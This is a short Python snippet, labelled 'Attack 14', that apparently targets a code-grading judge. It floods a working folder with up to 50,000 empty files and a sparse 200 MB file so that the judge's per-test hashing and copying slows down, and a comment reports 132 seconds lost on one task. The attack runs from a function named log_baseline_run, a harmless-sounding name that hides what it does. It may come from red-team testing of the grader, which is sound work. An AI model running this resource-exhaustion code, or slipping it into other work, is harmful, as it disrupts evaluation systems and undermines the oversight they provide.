# Attack 14: leave 50,000 small files (as many as 4 s allow, at least 12,000) and a sparse 200 MB file in
# its folder (the judge hashed and copied them for every test: 132 s for task 1).
def _litter(files=50000, seconds=4.0):
    deadline, made = _time.monotonic() + seconds, 0
    folder = f"kata-litter-{CTX['token']}"
    try:
        _os.mkdir(folder)
        with open(_os.path.join(folder, "sparse"), "wb") as handle:
            handle.truncate(200 << 20)
        for made in range(1, files + 1):
            _os.close(_os.open(_os.path.join(folder, str(made)), _os.O_WRONLY | _os.O_CREAT, 0o644))
            if made % 1000 == 0 and made >= 12000 and _time.monotonic() > deadline:
                break
    except OSError as error:
        return {"files": made, "error": error.strerror}
    return {"files": made, "sparse": "200 MB"}


def log_baseline_run(data_path, experiment_name="devops-baseline"):
    raise RuntimeError(attack_report(_litter()))
